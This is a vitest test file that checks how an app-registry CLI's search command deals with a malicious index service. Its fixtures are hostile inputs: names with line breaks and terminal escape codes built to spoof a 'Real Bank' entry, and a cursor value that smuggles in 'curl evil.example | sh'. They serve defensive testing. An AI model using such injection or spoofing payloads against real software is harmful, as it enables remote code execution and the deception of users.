import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { computeAbiHash } from "@app-registry/sdk/internal";
import { deadOrigin, serveHttp } from "@app-registry/test-kit/httpServer";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../../test/runCli.ts";

const address = "0x00000000000000000000000000000000000000AA";
let directory: string;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), "app-registry-"));
  const contract = (name: "AppRegistry" | "AppMetadata" | "ResolverWithStore") => ({
    ...{ address, abiHash: computeAbiHash(name) },
  });
  const contracts = {
    AppRegistry: contract("AppRegistry"),
    AppMetadata: contract("AppMetadata"),
    ResolverWithStore: contract("ResolverWithStore"),
  };
  const compiler = { version: "0.8.30", settings: {} };
  const deployment = { chainId: 31337, network: "localhost", deployBlock: 1, contracts, compiler };
  await writeFile(join(directory, "deployment.json"), JSON.stringify(deployment));
});

afterAll(() => rm(directory, { recursive: true }));

const row = {
  did: "did:web:quiet.example",
  proven: { kind: "host", name: "quiet.example", host: "quiet.example", path: "" },
  major: 1,
  version: "1.0.0",
  tokenId: "1",
  owner: address,
  minter: address,
  status: 0,
  interfaces: 2,
  dataUrl: "https://quiet.example/metadata.json",
  dataHash: `0x${"ab".repeat(32)}`,
  dataHashAlgorithm: 0,
  traits: [],
  traitHashes: [],
  updatedAt: 1,
};

/** Searches a web service whose index returns a modified row and page. */
async function search(rowChange: object, pageChange: object = {}, ...more: string[]) {
  const page = { results: [{ ...row, ...rowChange }], nextCursor: null, source: "index", block: 7 };
  const APP_URL = await serveHttp((_, response) => response.end(JSON.stringify({ ...page, ...pageChange })));
  const environment = { DEPLOYMENT_FILE: join(directory, "deployment.json"), RPC_URL: deadOrigin, APP_URL };
  return runCli(["search", ...more], { environment });
}

describe("search, with a malicious index", () => {
  it.each([
    ["a line break", "A quiet name\ndid:web:bank.example  1.0.0  Api  Real Bank"],
    ["a long word up to the next line", `${"a".repeat(80)}did:web:bank.example  1.0.0  Api  Real Bank`],
    ["a cursor movement", "Quiet\u001b[1A\u001b[2Kdid:web:bank.example  1.0.0  Api  Real Bank"],
  ])("prints one row for a name with %s", async (_, name) => {
    const { code, stdout, stderr } = await search({ name });
    expect(code, stderr).toBe(0);
    expect(stdout.split("\n")).toEqual([
      expect.stringMatching(/^did:web:quiet\.example {2}1\.0\.0 {2}API? {2}\S/i),
      "1 service",
      "",
    ]);
    expect(stdout).not.toContain("\u001b");
    expect(stdout).not.toContain("  Real Bank");
  });

  it.each([
    ["a DID that is not canonical", { did: "did:web:Bank.example" }, {}],
    ["a DID with a line break", { did: "did:web:quiet.example\ndid:web:bank.example" }, {}],
    ["an invalid version", { version: "1.0.0\u001b[31m" }, {}],
    ["an invalid token ID", { tokenId: "1\n2" }, {}],
    ["a cursor that a shell would run", {}, { nextCursor: "x; curl evil.example | sh" }],
  ])("rejects %s", async (_, rowChange, pageChange) => {
    for (const json of [[], ["--json"]]) {
      const { code, stdout, stderr } = await search(rowChange, pageChange, ...json);
      expect(code, stderr).toBe(3);
      expect(stdout + stderr).toContain("is not responding as a registry web service");
    }
  });
});
